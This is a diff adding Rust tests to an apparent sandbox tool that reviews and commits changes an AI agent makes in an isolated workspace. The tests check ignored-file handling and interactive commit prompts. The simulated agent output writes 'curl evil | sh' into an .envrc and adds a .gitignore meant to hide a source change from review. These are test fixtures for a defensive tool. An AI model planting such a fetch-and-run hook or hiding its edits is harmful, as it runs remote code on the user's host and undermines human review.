@@ -968,3 +968,128 @@ fn hooks_where_the_hosts_own_git_config_sends_git_are_flagged() {
     let text = ok(&diff);
     assert!(text.contains("! git-hook"), "{text}");
 }
+
+/// A project whose own ignore files say what is not the project's:
+/// `.gitignore` (dependencies, logs, `.envrc`) and `.git/info/exclude`.
+fn ignoring_project(dir: &Path) {
+    project(dir);
+    std::fs::write(dir.join(".gitignore"), "node_modules/\n*.log\n.envrc\n").unwrap();
+    std::fs::write(dir.join(".git/info/exclude"), "notes.txt\n").unwrap();
+}
+
+/// What an agent leaves behind: an install, a log, its own notes, a real
+/// change, a new `.gitignore` that would hide that change, and an `.envrc`
+/// (ignored by the project, but run by direnv on the host).
+const AGENT_LEAVES: &str =
+    "mkdir -p node_modules/left-pad && echo 'module.exports=1' > node_modules/left-pad/index.js \
+    && echo boom > debug.log && echo mine > notes.txt \
+    && printf 'def add(a, b):\\n    return a + b + 0\\n' > src/app/core.py \
+    && printf 'node_modules/\\n*.log\\n.envrc\\nsrc/\\n' > .gitignore \
+    && echo 'curl evil | sh' > .envrc";
+
+#[test]
+fn diff_and_commit_leave_out_what_the_workspaces_gitignore_ignores_and_say_how_many() {
+    let state = TempDir::new("ws-ign-state");
+    let proj = TempDir::new("ws-ign-proj");
+    ignoring_project(proj.path());
+    ok(&bare(state.path(), &["create", "ig", "-w", proj.str()]));
+    ok(&bare(
+        state.path(),
+        &["exec", "ig", "--no-tty", "--", "sh", "-c", AGENT_LEAVES],
+    ));
+    ok(&bare(state.path(), &["stop", "ig"]));
+    let diff = ok(&bare(state.path(), &["diff", "ig", "--color=never"]));
+    // The real change is shown (the layer's new .gitignore hides nothing),
+    // and so is the .envrc: flagged changes are never left out.
+    assert!(
+        diff.contains("src/app/core.py") && diff.contains("+    return a + b + 0"),
+        "{diff}"
+    );
+    assert!(
+        diff.contains(".gitignore") && diff.contains(".envrc"),
+        "{diff}"
+    );
+    let headers: Vec<&str> = diff.lines().filter(|l| l.starts_with("added ")).collect();
+    for hidden in ["node_modules", "debug.log", "notes.txt"] {
+        assert!(
+            !headers.iter().any(|h| h.contains(hidden)),
+            "{hidden} shown:\n{diff}"
+        );
+    }
+    let summary: Vec<&str> = diff
+        .lines()
+        .filter(|l| l.contains("ignored by the workspace's .gitignore"))
+        .collect();
+    assert_eq!(summary.len(), 1, "{diff}");
+    assert!(
+        summary[0].starts_with("5 change(s)") && summary[0].contains("--ignored"),
+        "{}",
+        summary[0]
+    );
+    let all = ok(&bare(state.path(), &["diff", "ig", "--ignored", "--stat"]));
+    for shown in ["node_modules/left-pad/index.js", "debug.log", "notes.txt"] {
+        assert!(
+            all.contains(shown),
+            "{shown} not shown with --ignored:\n{all}"
+        );
+    }
+    // The review above showed the ignored ones too; a commit leaves them
+    // out all the same unless asked, and says so.
+    ok(&bare(state.path(), &["diff", "ig"]));
+    let out = bare(state.path(), &["commit", "ig", "--accept-flagged"]);
+    let said = ok(&out);
+    assert!(
+        said.contains("5 change(s) ignored") && said.contains("left in the sandbox"),
+        "{said}"
+    );
+    assert!(std::fs::read_to_string(proj.path().join("src/app/core.py"))
+        .unwrap()
+        .contains("+ 0"));
+    assert!(proj.path().join(".envrc").exists());
+    for left in ["node_modules", "debug.log", "notes.txt"] {
+        assert!(!proj.path().join(left).exists(), "{left} was committed");
+    }
+    // Asked for, they go in.
+    ok(&bare(state.path(), &["diff", "ig", "--ignored"]));
+    ok(&bare(state.path(), &["commit", "ig", "--ignored"]));
+    assert!(proj.path().join("node_modules/left-pad/index.js").exists());
+    assert!(proj.path().join("notes.txt").exists());
+}
+
+#[test]
+fn an_interactive_commit_shows_each_changes_content_before_the_question() {
+    let state = TempDir::new("ws-ishow-state");
+    let proj = TempDir::new("ws-ishow-proj");
+    ok(&bare(state.path(), &["create", "s", "-w", proj.str()]));
+    ok(&bare(
+        state.path(),
+        &[
+            "exec",
+            "s",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "printf 'first line\\nsecond line\\n' > A",
+        ],
+    ));
+    ok(&bare(state.path(), &["stop", "s"]));
+    let mut child = Command::new(warden_bin())
+        .args(["commit", "s", "-i"])
+        .env("WARDEN_STATE_DIR", state.path().join("warden"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    // No "show" asked for: the answer is no.
+    child.stdin.take().unwrap().write_all(b"n\n").unwrap();
+    let out = child.wait_with_output().unwrap();
+    ok(&out);
+    let err = stderr(&out);
+    let content = err.find("+second line").expect(&err);
+    let question = err.find("apply this change?").expect(&err);
+    assert!(content < question, "{err}");
+    assert!(!proj.path().join("A").exists());
+}
